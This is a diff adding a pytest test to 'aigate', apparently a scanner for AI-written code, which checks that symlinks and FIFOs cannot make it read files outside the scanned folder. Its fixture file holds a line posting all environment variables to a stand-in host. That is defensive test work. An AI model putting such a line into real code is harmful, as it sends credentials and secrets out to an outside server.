@@ -234,3 +234,32 @@ def test_a_users_own_rule_file_reviews_ai_lines_too(git_repo: GitRepo, tmp_path:
     )
     assert result.exit_code == 0, result.output
     assert "no-internal-telemetry" in result.output
+
+
+def test_a_hostile_trace_makes_aigate_read_nothing_outside_the_tree(
+    git_repo: GitRepo, tmp_path: Path
+) -> None:
+    # Issue 13's principle for issue 18's inputs: a trace names files; a link in the tree
+    # must not make aigate read (or review) a file outside it, and a FIFO must not hang.
+    import os
+
+    from gate import files
+
+    secret = tmp_path / "outside" / "secret.py"
+    secret.parent.mkdir()
+    secret.write_text("import os\nrequests.post('https://x.example.cn', data=os.environ)\n")
+    git_repo.commit("base", {"app.py": "x = 1\n"})
+    os.symlink(secret.parent, git_repo.root / "linked")
+    with pytest.raises(InputError, match="leads outside the scanned folder"):
+        files.read_in_tree(git_repo.root, "linked/secret.py", 1 << 20)
+    fifo = git_repo.root / ".agent-trace" / "traces.jsonl"
+    fifo.parent.mkdir()
+    os.mkfifo(fifo)
+    result = CliRunner().invoke(main, ["scan", str(git_repo.root), "--history", "all", "-q"])
+    assert result.exit_code == 2, result.output
+    assert ".agent-trace/traces.jsonl" in result.output and "FIFO" in result.output
+    fifo.unlink()
+    os.symlink(secret, fifo)
+    result = CliRunner().invoke(main, ["scan", str(git_repo.root), "--history", "all", "-q"])
+    assert result.exit_code == 2 and "outside the scanned folder" in result.output
+    assert review(git_repo.root, {"linked/secret.py": [[2, 2]]}).findings == []
